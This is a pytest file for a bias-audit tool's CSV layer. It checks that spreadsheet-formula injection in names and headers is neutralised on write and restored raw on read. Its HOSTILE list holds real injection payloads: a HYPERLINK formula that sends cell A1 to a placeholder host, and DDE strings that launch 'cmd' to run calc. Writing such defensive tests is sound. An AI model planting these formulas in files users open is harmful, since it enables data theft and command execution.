"""Spreadsheet formulas in names and labels never reach a CSV biasaudit writes as
formulas (OWASP's rule), and everything biasaudit reads back is the raw value."""

from __future__ import annotations

import io
import json
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from click.testing import CliRunner

from biasaudit.cli import cli
from biasaudit.store.tables import neutralise, read_csv, restore, write_csv

HOSTILE = [
    '=HYPERLINK("http://x.invalid/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''+twice",
]


@pytest.mark.parametrize("value", [*HOSTILE, "Alice", "-0.25", "+3", "1e-5", "", "a=b"])
def test_every_text_round_trips_and_no_cell_starts_like_a_formula(value: str) -> None:
    written = neutralise(value)
    assert restore(written) == value
    if value in ("-0.25", "+3", "1e-5"):
        assert written == value  # a number stays a number
    elif value and (value[:1] in "=+-@\t\r" or value.lstrip("'")[:1] in "=+-@"):
        assert written.startswith("'") and written != value


def test_a_frame_written_and_read_back_is_the_same_frame() -> None:
    frame = pd.DataFrame({"name": HOSTILE, "score": np.linspace(-1, 1, len(HOSTILE)),
                          "=header": ["x"] * len(HOSTILE)})  # fmt: skip
    buffer = io.StringIO()
    write_csv(frame, buffer)
    text = buffer.getvalue()
    import csv

    for row in list(csv.reader(io.StringIO(text, newline="")))[1:]:
        assert row[0][:1] not in "=+-@\t\r", row
    assert text.startswith("name,score,'=header\r\n")
    back = read_csv(io.StringIO(text))
    pd.testing.assert_frame_equal(back, frame)


NAMES = [value for value in HOSTILE if "\r" not in value and "\t" not in value]


def test_hostile_names_reach_no_run_csv_or_export_as_formulas(tmp_path: Path) -> None:
    rng = np.random.default_rng(0)
    rows = [{"candidate": f"c{g}{i}", "group": g, "score": float(rng.normal()),
             "name": NAMES[i % len(NAMES)] if g == "G" else f"ref{i % 4}"}
            for g in ("R", "G") for i in range(16)]  # fmt: skip
    path = tmp_path / "scores.csv"
    pd.DataFrame(rows).to_csv(path, index=False)
    runs = tmp_path / "runs"
    result = CliRunner().invoke(
        cli, ["score", "allocation", str(path), "--reference-group", "R", "--runs-dir",
              str(runs), "--bootstrap", "100", "--gap-bootstrap", "20", "--rounds", "50"],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    run_dir = Path(result.stdout.strip().splitlines()[-1].removeprefix("run: "))
    written = (run_dir / "scores.csv").read_text()
    for value in HOSTILE[:4]:
        assert f"\n{value}" not in written and f",{value}" not in written
    # biasaudit reads its own file back raw: the names are the names given.
    assert set(read_csv(run_dir / "scores.csv")["name"]) >= set(NAMES)
    for fmt in ("csv", "jsonl"):
        out = tmp_path / f"scores.{fmt}"
        result = CliRunner().invoke(cli, ["export", str(run_dir), "--what", "scores",
                                          "--format", fmt, "-o", str(out)])  # fmt: skip
        assert result.exit_code == 0, result.output
        text = out.read_text()
        if fmt == "csv":
            assert not any(f",{value}" in text for value in HOSTILE[:4])
            assert set(read_csv(out)["name"]) >= set(NAMES)
        else:
            names = {json.loads(line)["name"] for line in text.splitlines()}
            assert names >= set(NAMES)  # JSON keeps the raw value


def test_columns_without_text_or_with_mixed_values_are_written_as_they_are() -> None:
    frame = pd.DataFrame(
        {"flag": [True, False], "mixed": ["=SUM(A1)", 1], "number": ["-1", "@x"]}, dtype=object
    )
    buffer = io.StringIO()
    write_csv(frame, buffer)
    assert buffer.getvalue().splitlines() == [
        "flag,mixed,number", "True,'=SUM(A1),-1", "False,1,'@x"
    ]  # fmt: skip
    back = read_csv(io.StringIO(buffer.getvalue()))
    assert back["flag"].tolist() == [True, False]
    assert back["mixed"].tolist() == ["=SUM(A1)", "1"]
    assert back["number"].tolist() == ["-1", "@x"]
